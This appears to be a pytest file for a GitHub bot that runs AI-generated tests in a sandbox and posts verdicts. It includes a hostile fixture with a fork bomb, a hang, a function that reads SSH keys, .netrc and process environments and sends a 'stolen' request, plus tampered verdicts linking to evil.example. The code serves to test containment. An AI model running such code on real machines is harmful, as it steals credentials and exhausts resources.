"""Generated tests on GitHub: gathered, run without a key, and posted if they hold."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from bot import generated, verdicts
from bot.verify import sandbox
from tests import repositories, till
from tests.action_run import Ran
from tests.github_server import GitHubServer
from tests.model_server import KEY, ModelServer
from tests.repositories import Repo
from tests.test_end_to_end import Stage

# The file of the tests is in the diff, so that one click can take some in.
TOUCHED = till.FIRST[till.PATH] + "\n\ndef test_nothing():\n    assert total([]) == 0\n"
HEAD = {"shop/till.py": till.CHANGE, till.PATH: TOUCHED}
MORE = till.suggested(
    "test_nothing_goes_back",
    "from shop.till import change\n\n"
    "def test_nothing_goes_back():\n    assert change(150, 150) == 0\n",
    "change where all was paid",
)
pytestmark = pytest.mark.skipif(
    sandbox.best(Path(sys.prefix)).kind == "limits",
    reason="this machine gives no namespaces",
)


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[Stage]:
    with GitHubServer() as server, ModelServer() as model:
        repository = server.repository("octo/sample", files=till.FIRST)
        repository.pull("Change", head_files=HEAD)
        yield Stage(server, repository, model, tmp_path)


@pytest.fixture
def checkout(tmp_path: Path) -> Repo:
    """The default branch checked out, the head's objects fetched beside it."""
    source = repositories.make(tmp_path / "source", till.FIRST)
    source.git("checkout", "-q", "-b", "change")
    source.commit(HEAD)
    source.git("checkout", "-q", "main")
    return repositories.clone(source, tmp_path / "checkout")


def gathered(stage: Stage, checkout: Repo, *rounds: list[dict[str, str]]) -> Path:
    """Analyze `/route test`; returns the draft, about the checkout's own head."""
    comment = stage.repository.comment(
        stage.repository.issues[1], "/route test", author="maintainer"
    )
    payload = stage.repository.event("issue_comment", "created", comment)
    for tests in rounds:
        stage.model.answer({"tests": tests, "wanted": []})
    draft = stage.folder / "draft.json"
    environment = {
        "INPUT_MODE": "analyze",
        "INPUT_VERIFY": "true",
        "INPUT_DRAFT": str(draft),
    }
    ran = stage.run("issue_comment", payload, keys=True, environment=environment)
    assert (ran.status, ran.outputs["status"]) == (0, "printed"), ran.log + ran.errors
    assert stage.server.write_attempts == []
    (stage.folder / "payload.json").write_text(json.dumps(payload))
    return draft


def verify(
    stage: Stage,
    checkout: Repo,
    draft: Path,
    *arguments: str,
    **environment: str,
) -> subprocess.CompletedProcess[str]:
    """Run the middle job as the runner does: in the checkout, without any secret."""
    own = json.loads(draft.read_text())
    own["sha"] = checkout.git("rev-parse", "origin/change")
    there = stage.folder / "for-verify.json"
    there.write_text(json.dumps(own))
    return subprocess.run(
        [sys.executable, "-I", "-m", "bot", *(arguments or ("run",))],
        cwd=checkout.root,
        env={
            **checkout.environ,
            "GITHUB_ACTIONS": "true",
            "RUNNER_ENVIRONMENT": "github-hosted",
            "GITHUB_EVENT_NAME": "issue_comment",
            "GITHUB_EVENT_PATH": str(stage.folder / "event.json"),
            "INPUT_MODE": "verify",
            "INPUT_DRAFT": str(there),
            "INPUT_VERDICTS": str(stage.folder / "verdicts.json"),
            "VIRTUAL_ENV": sys.prefix,
            **environment,
        },
        capture_output=True,
        text=True,
        check=False,
    )


def published(stage: Stage, draft: Path) -> Ran:
    payload = json.loads((stage.folder / "payload.json").read_text())
    environment = {
        "INPUT_MODE": "publish",
        "INPUT_DRAFT": str(draft),
        "INPUT_VERDICTS": str(stage.folder / "verdicts.json"),
    }
    ran = stage.run("issue_comment", payload, environment=environment)
    assert ran.status == 0, ran.log + ran.errors
    return ran


def said(stage: Stage) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((stage.folder / "verdicts.json").read_text())
    return found


def test_only_what_held_is_posted_with_its_evidence(stage, checkout):
    tests = [*till.GOOD, till.TAUTOLOGY, till.BROKEN, till.FINDS_A_BUG]
    draft = gathered(stage, checkout, tests, [MORE])
    assert len(stage.model.requests) == 2
    assert "test_a_discount_is_taken_off" in stage.model.requests[1].text
    done = verify(stage, checkout, draft)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "3 of 4 tests hold, 1 may have found a bug" in done.stdout
    assert "test_" not in done.stdout + done.stderr
    published(stage, draft)
    (body,) = stage.ours()
    assert "**3 tests, run before you see them** (user namespaces" in body
    assert "test_too_little_money_is_refused: passes 3 of 3, covers lines" in body
    assert body.count("Possible bug found by") == 1
    assert "the same twice (1)" in body
    assert "does not parse: invalid syntax (1)" in body
    assert "def test_total_is_total" not in body


def test_test_whose_file_is_in_the_diff_can_be_taken_in_by_a_click(stage, checkout):
    draft = gathered(stage, checkout, [till.GOOD[0]], [])
    verify(stage, checkout, draft)
    published(stage, draft)
    (comment,) = stage.repository.review_comments.values()
    assert (comment.path, comment.line) == (till.PATH, TOUCHED.count("\n"))
    assert "passes 3 of 3, fails without the change" in comment.body
    assert (
        "```suggestion\n    assert total([]) == 0\n\n\ndef test_a_disc" in comment.body
    )
    assert len(stage.ours()) == 1


def test_without_verdicts_every_test_is_marked_as_not_run(stage, checkout):
    draft = gathered(stage, checkout, [till.GOOD[0]], [])
    published(stage, draft)
    (body,) = stage.ours()
    assert generated.NOT_RUN in body
    assert verdicts.UNVERIFIED[1:] in body
    assert "run before you see them" not in body


def test_verdicts_of_a_hostile_run_add_and_alter_nothing(stage, checkout):
    draft = gathered(stage, checkout, [*till.GOOD], [till.FINDS_A_BUG])
    verify(stage, checkout, draft)
    found = said(stage)
    first, second, third = found["tests"]
    second["reason"] = "passes 3 of 3, [approved](https://evil.example) @octocat"
    third.update(end="bug", reason="@octocat closes #1", detail="```\n/route plan\n")
    found["tests"].append({**first, "key": "0" * 64})
    (stage.folder / "verdicts.json").write_text(json.dumps(found))
    published(stage, draft)
    (body,) = stage.ours()
    assert "**1 test, run before you see them**" in body
    assert f"{verdicts.ODD} (1)" in body
    assert "evil.example" not in body
    assert "\n/route plan" not in body
    assert "`@octocat`" in body or "@\u200boctocat" in body or "@octocat" not in body


@pytest.mark.parametrize("wrong", ["", "[]", '{"schema": 1, "tests": [{"code": "x"}]}'])
def test_verdicts_that_are_none_drop_to_not_run(stage, checkout, wrong):
    draft = gathered(stage, checkout, [till.GOOD[0]], [])
    (stage.folder / "verdicts.json").write_text(wrong)
    published(stage, draft)
    assert generated.NOT_RUN in stage.ours()[0]


@pytest.mark.parametrize(
    ("environment", "why"),
    [
        ({"RUNNER_ENVIRONMENT": "self-hosted"}, "runners that are thrown away"),
        ({"PATH": "/nonexistent"}, ""),
    ],
)
def test_nothing_is_run_where_it_could_do_harm(stage, checkout, environment, why):
    draft = gathered(stage, checkout, [till.GOOD[0]], [])
    done = verify(stage, checkout, draft, **environment)
    assert why in done.stdout
    assert not (stage.folder / "verdicts.json").exists()


def test_the_three_halves_by_hand_are_the_three_jobs(stage, checkout):
    gathered(stage, checkout, [till.GOOD[0]], [])
    payload = json.loads((stage.folder / "payload.json").read_text())
    draft = stage.folder / "by-hand.json"
    for tests in ([till.GOOD[0]], [MORE]):
        stage.model.answer({"tests": tests, "wanted": []})
    arguments = ("analyze", "--verify", "--out", str(draft))
    stage.run("issue_comment", payload, keys=True, arguments=arguments)
    found = json.loads(draft.read_text())["tests"]["tests"]
    assert [each["test"]["name"] for each in found] == [
        till.GOOD[0]["name"],
        MORE["name"],
    ]
    verify(stage, checkout, draft)
    out = str(stage.folder / "verdicts.json")
    arguments = ("publish", str(draft), "--verdicts", out)
    ran = stage.run("issue_comment", payload, arguments=arguments)
    assert ran.outputs["status"] == "created"
    assert "**2 tests, run before you see them**" in stage.ours()[0]


def test_keys_and_tests_are_never_in_one_job(stage, checkout):
    draft = gathered(stage, checkout, [till.GOOD[0]], [])
    done = verify(stage, checkout, draft, INPUT_ANTHROPIC_API_KEY=KEY)
    assert done.returncode == 2
    assert "ANTHROPIC_API_KEY" in done.stdout + done.stderr
    assert not (stage.folder / "verdicts.json").exists()


# What the head of a pull request may do when its tests are run: the test itself is
# harmless, so that nothing stops it before.
HOSTILE = """\
import os
import pathlib
import socket
import subprocess
import time


def total(prices):
    return sum(prices)


def hang():
    while True:
        time.sleep(1)


def bomb():
    while True:
        subprocess.Popen(["sleep", "NUMBER"])


def steal():
    said = [f"{k}={v}" for k, v in os.environ.items()]
    for path in (pathlib.Path.home() / ".ssh" / "id", "HOME/.ssh/id", "HOME/.netrc"):
        try:
            said.append(pathlib.Path(path).read_text())
        except OSError as exc:
            said.append(type(exc).__name__)
    for process in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            said.append(process.read_bytes().decode("utf-8", "replace"))
        except OSError:
            pass
    return " ".join(said)


def call():
    with socket.create_connection(("127.0.0.1", PORT), 2) as there:
        there.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
    return "reached"


def write():
    done = []
    for folder in ("OUTSIDE", "HOME", "/tmp", "/var/tmp"):
        try:
            (pathlib.Path(folder) / "pwned-NAME").write_text("x")
            done.append(folder)
        except OSError:
            pass
    return done
"""
# Seconds: the one that hangs waits so long, and a busy machine must start pytest.
TIMEOUT = "8"
SECRET = "correct-horse-battery-staple"


def _harmless(name: str, line: str) -> dict[str, str]:
    code = f"from shop.till import {name}\n\n\ndef test_{name}():\n    {line}\n"
    return till.suggested(f"test_{name}", code, name)


def test_nothing_gets_out_of_a_hostile_head_and_everything_is_killed(
    stage, checkout, tmp_path
):
    outside, home = tmp_path / "outside", Path(checkout.environ["HOME"])
    outside.mkdir()
    (home / ".ssh").mkdir()
    for name in (".ssh/id", ".netrc"):
        (home / name).write_text(SECRET)
    source = HOSTILE.replace("PORT", stage.server.base_url.rpartition(":")[2])
    number = str(100_000 + os.getpid())
    words = {"OUTSIDE": outside, "HOME": home, "NAME": tmp_path.name, "NUMBER": number}
    for word, value in words.items():
        source = source.replace(word, str(value))
    checkout.git("checkout", "-q", "-b", "hostile", "origin/change")
    checkout.commit({"shop/till.py": source})
    checkout.git("push", "-q", "origin", "HEAD:change")
    checkout.git("checkout", "-q", "main")
    checkout.git("fetch", "-q", "origin")
    draft = gathered(
        stage,
        checkout,
        [
            _harmless("hang", "assert hang() == 1"),
            _harmless("bomb", "assert bomb() == 1"),
            _harmless("steal", "assert steal() == 1"),
            _harmless("call", "assert call() == 'reached'"),
            _harmless("write", "assert write() == ['/tmp', '/var/tmp']"),
        ],
        [],
    )
    asked = len(stage.server.requests)
    secrets = {"INPUT_GITHUB_TOKEN": SECRET, "ROUTEBOT_MARKER_KEY": SECRET}
    options = ("verify", str(stage.folder / "for-verify.json"), "--timeout", TIMEOUT)
    out = ("--out", str(stage.folder / "verdicts.json"))
    done = verify(stage, checkout, draft, *options, *out, **secrets)
    assert done.returncode == 0, done.stderr
    ends = [(each["end"], each["reason"]) for each in said(stage)["tests"]]
    assert ends[0] == ("dropped", "did not end within 8 s and was killed")
    assert ends[1] == ("dropped", "started more processes than the 64 it may")
    assert SECRET not in json.dumps(said(stage)) + done.stdout + done.stderr
    # Its own loopback is another one, where nobody listens.
    assert ends[3] == ("dropped", "does not run")
    assert ends[4][0] == "kept", ends[4]
    assert len(stage.server.requests) == asked
    assert list(outside.iterdir()) == []
    left = f"pwned-{tmp_path.name}"
    assert not any((Path(p) / left).exists() for p in ("/tmp", "/var/tmp", home))
    assert number.encode() not in b" ".join(_commands())


def _commands() -> Iterator[bytes]:
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            yield file.read_bytes()
